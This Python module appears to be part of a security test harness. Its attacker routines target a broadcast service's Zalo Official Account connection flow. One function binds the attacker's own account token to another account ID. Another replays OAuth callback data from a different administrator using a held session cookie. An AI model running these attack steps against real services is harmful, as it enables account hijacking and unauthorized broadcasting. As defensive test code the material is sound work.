"""Official Accounts, as they are connected on Zalo's page: whose token becomes whose account."""

from urllib.parse import parse_qsl, urlsplit

import aiohttp

from attack.attackers.trade import Attacker

PERMISSION = "/v4/oa/permission"
CONNECT = "/api/v1/official-accounts"


async def under_another_name(attacker: Attacker) -> None:
    """The token of an account that they manage, told to be that of an account of the force."""
    headers = {"Authorization": f"Bearer {attacker.holds['VERIFICATION_TO_BROADCAST_KEY']}"}
    async with aiohttp.ClientSession(attacker.holds["BROADCAST_URL"], headers=headers) as http:
        begun = {"by": attacker.login, "back_to": attacker.knows["back_to"]}
        async with http.post(f"{CONNECT}/permission", json=begun) as answer:
            answer.raise_for_status()
            address = (await answer.json())["address"]
        back = await allowed(attacker.knows["platform_url"], address, attacker.knows["their_oa"])
        told = {**back, "oa_id": attacker.knows["oa"], "account_id": attacker.knows["account"]}
        async with http.post(CONNECT, json={"by": attacker.login, "per_minute": 2000, **told}) as answer:
            await attacker.takes(answer)


async def begun_by_another(attacker: Attacker) -> None:
    """What Zalo gave another administrator's browser, in their own session."""
    form = {**attacker.knows["came_back"], "account_id": attacker.knows["account"], "per_minute": "2000", "why": "new"}
    headers = {"Cookie": attacker.holds["SESSION"]}
    async with (
        aiohttp.ClientSession(attacker.knows["desk_url"], headers=headers) as http,
        http.post("/sending/accounts/connected", data=form, allow_redirects=False) as answer,
    ):
        await attacker.takes(answer)


async def allowed(platform_url: str, address: str, oa_id: str) -> dict[str, str]:
    """What a browser takes back from Zalo's page where somebody lets the app post for this account."""
    form = dict(parse_qsl(urlsplit(address).query)) | {"oa_id": oa_id}
    async with (
        aiohttp.ClientSession(platform_url) as zalo,
        zalo.post(PERMISSION, data=form, allow_redirects=False) as answer,
    ):
        if answer.status != 303:
            raise RuntimeError(f"Zalo's page gave no code: HTTP {answer.status}")
        return dict(parse_qsl(urlsplit(answer.headers["Location"]).query))
